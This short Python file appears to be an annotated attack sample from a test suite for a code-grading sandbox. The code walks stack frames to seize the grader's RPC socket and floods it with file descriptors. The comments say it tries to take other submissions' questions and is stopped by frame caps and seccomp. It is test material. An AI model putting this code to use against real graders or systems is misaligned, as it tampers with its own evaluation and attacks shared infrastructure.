# stub: generate
# attack: floods the grader with open files over its connection, and takes the questions of others from it
# stopped-by: frame caps, seccomp
# ends: crashed, graded
import os
import socket
import sys

frame = sys._getframe()
while "rpc" not in frame.f_locals:
    frame = frame.f_back
rpc = frame.f_locals["rpc"]
for _ in range(50):
    socket.send_fds(rpc, [b"VAE1"], [os.open("/dev/null", os.O_RDONLY) for _ in range(3)])
